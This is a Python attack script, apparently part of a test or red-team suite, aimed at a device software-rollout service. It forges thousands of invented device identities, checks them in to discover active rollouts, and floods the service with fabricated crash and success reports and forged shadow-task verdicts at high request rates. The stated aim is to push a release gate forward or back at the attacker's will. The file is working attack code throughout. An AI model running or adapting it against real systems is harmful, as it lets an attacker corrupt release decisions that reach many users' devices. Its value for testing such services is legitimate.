"""Devices that do not exist say how a release went: each checks in under an id it made up, takes what is offered, and reports. Half of
them say that it ran well, half that it crashed. A gate that believes them goes on or back as the stranger likes.

The stranger knows addresses alone: which rollouts there are its devices are told when they check in. A caller that has them in another
way may name them, and tasks whose shadows are spoken of."""
import struct

import raw_device
from evil_gateway import Reader, WITH_FLOOR, open_envelope, open_offers
from raw_h2 import Closed, Connection, DATA, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, request, status_of

POINT = 13
DEVICES = 10000      # in one attack
BATCH = 100          # requests at once
LEARN_MAX = 2000     # check-ins to find a rollout
FIRST = 0xbad0_0000_0000_0000
RATE = 20000         # requests a second at most
PROFILE = raw_device.profile(os="android")  # as most devices that a release is for
SHADOW_MARK = 0x736861646f772323  # docs/PROTOCOL.md
RAN_WELL, CRASHED, AGREED, DIFFERENT = (1, 2, 3), (1, 2, 22), (7,), (24,)


def report(device, rollout, kinds, task=0, epoch=1, first=1):
    outcomes = b"".join(struct.pack("<BQQQ", kind, task, 0, rollout) + b"\0" + struct.pack("<Q", 0xbad if kind >= 16 else 0) + b"\0"
                        for kind in kinds)
    return struct.pack("<BQIQ", 1, device, epoch, first) + bytes([len(kinds)]) + outcomes


class Requests:
    """Sends many at once over one connection, and counts the answers by status."""

    def __init__(self, target):
        self.connection = Connection(target.h2c or target.tls, tls=not target.h2c)
        self.counts = {}

    def send(self, path, device, headers=(), body=b""):
        stream = self.connection.headers(
            request(path, "POST", ("walle-device", f"{device:016x}"), *headers), END_HEADERS if body else END_HEADERS | END_STREAM)
        if body:
            self.connection.frame(DATA, END_STREAM, stream, body)
        return stream

    def answers(self, streams):
        """Body of each stream's answer; None for one that was refused."""
        bodies, waiting = {}, set(streams)
        while waiting:
            frame = self.connection.wait_any()
            if frame.stream not in waiting:
                continue
            if frame.kind == HEADERS:
                status = status_of(frame.payload)
                self.counts[status] = self.counts.get(status, 0) + 1
                bodies[frame.stream] = b"" if status in (200, 204) else None
            elif frame.kind == DATA and bodies.get(frame.stream) is not None:
                bodies[frame.stream] += frame.payload
            elif frame.kind == RST_STREAM:
                bodies[frame.stream] = None
                self.counts["reset"] = self.counts.get("reset", 0) + 1
            if frame.kind == RST_STREAM or frame.flags & END_STREAM:
                waiting.discard(frame.stream)
        return [bodies.get(stream) for stream in streams]


def rollouts_in(body):
    """Ids of the rollouts that an answer to a check-in offers."""
    found = set()
    for item in open_offers(body) if body else ():
        kind, payload, _ = open_envelope(item)
        if kind == 1:
            reader = Reader(payload)
            floor = 8 if reader.number(1) in WITH_FLOOR else 0
            reader.take(reader.number(1) + 8 + floor + 32)
            reader.varint()
            found.add(reader.number(8))
    return found


def reports_of(number, rollouts, shadows):
    """What invented device `number` says, and of how many rollouts: well or not by turns."""
    device = FIRST + number
    spoken = {rollout for rollout, _ in shadows}
    said = [(rollout, 0, CRASHED if number % 2 else RAN_WELL) for rollout in rollouts if rollout not in spoken]
    said += [(rollout, task ^ SHADOW_MARK, DIFFERENT if number % 2 else AGREED) for rollout, task in shadows]
    first = 1
    for rollout, task, kinds in said:
        yield device, report(device, rollout, kinds, task, first=first)
        first += len(kinds)


def attack(target, stop, rollouts=(), shadows=(), devices=DEVICES):
    """`shadows`: (rollout, task id) whose shadows are spoken of too."""
    found, sent, checkins, pace = set(rollouts), 0, 0, raw_device.Pace(RATE * target.share, stop)
    try:
        wire = Requests(target)
    except OSError:
        return {"devices": 0, "checkins": 0, "rollouts": 0, "answers": {"closed": 1}}
    try:
        while not stop.is_set() and (checkins < devices or sent < devices) and (found or checkins < LEARN_MAX):
            pace.wait(BATCH)
            batch = range(checkins, checkins + BATCH)
            for body in wire.answers([wire.send("/v1/checkin", FIRST + number, [("walle-profile", PROFILE)]) for number in batch]):
                found |= rollouts_in(body)
            checkins += BATCH
            said = [one for number in batch for one in reports_of(number, sorted(found), shadows)]
            for at in range(0, len(said), BATCH):
                pace.wait(BATCH)
                wire.answers([wire.send("/v1/report", device, body=body) for device, body in said[at:at + BATCH]])
            sent += BATCH if said else 0
    except (Closed, OSError, AssertionError):
        wire.counts["closed"] = 1
    wire.connection.socket.close()
    return {"devices": sent, "checkins": checkins, "rollouts": len(found), "answers": {str(key): count for key, count in wire.counts.items()}}
